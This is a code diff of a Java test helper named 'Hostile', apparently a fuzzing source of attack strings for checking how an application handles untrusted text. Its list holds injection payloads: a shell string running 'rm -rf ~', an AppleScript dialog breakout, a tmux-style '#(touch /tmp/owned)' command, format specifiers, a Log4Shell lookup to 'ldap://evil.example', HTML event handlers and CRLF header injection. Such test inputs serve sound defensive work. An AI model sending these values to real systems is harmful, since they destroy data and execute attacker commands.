@@ -36,10 +36,8 @@ public final class Hostile {
           "'; rm -rf ~; '",
           "\"; display dialog \"x",
           "--help",
-          "-u critical -h int:value:1",
-          "-e",
           "#{l:x}#(touch /tmp/owned)",
-          "%s%n%x\\n\\033[31m\\u001b[31m",
+          "%s%n%x",
           "{0}${jndi:ldap://evil.example}",
           "<b onclick=x>&amp;",
           "line\r\nx: y\n\nz",
@@ -51,9 +49,12 @@ public final class Hostile {
     random = new Random(seed);
   }
 
-  /** {@return texts each of which is one attack; the last one is very long} */
+  /** {@return texts each of which is one attack; some would be too long as parts of others} */
   public static List<String> attacks() {
-    return Stream.concat(ATTACKS.stream(), Stream.of("y".repeat(10_000))).toList();
+    var more =
+        Stream.of(
+            "-u critical -h int:value:1", "-e", "%d\\n\\033[31m\\u001b[31m", "y".repeat(10_000));
+    return Stream.concat(ATTACKS.stream(), more).toList();
   }
 
   /** {@return the next text; now and then it is harmless} */
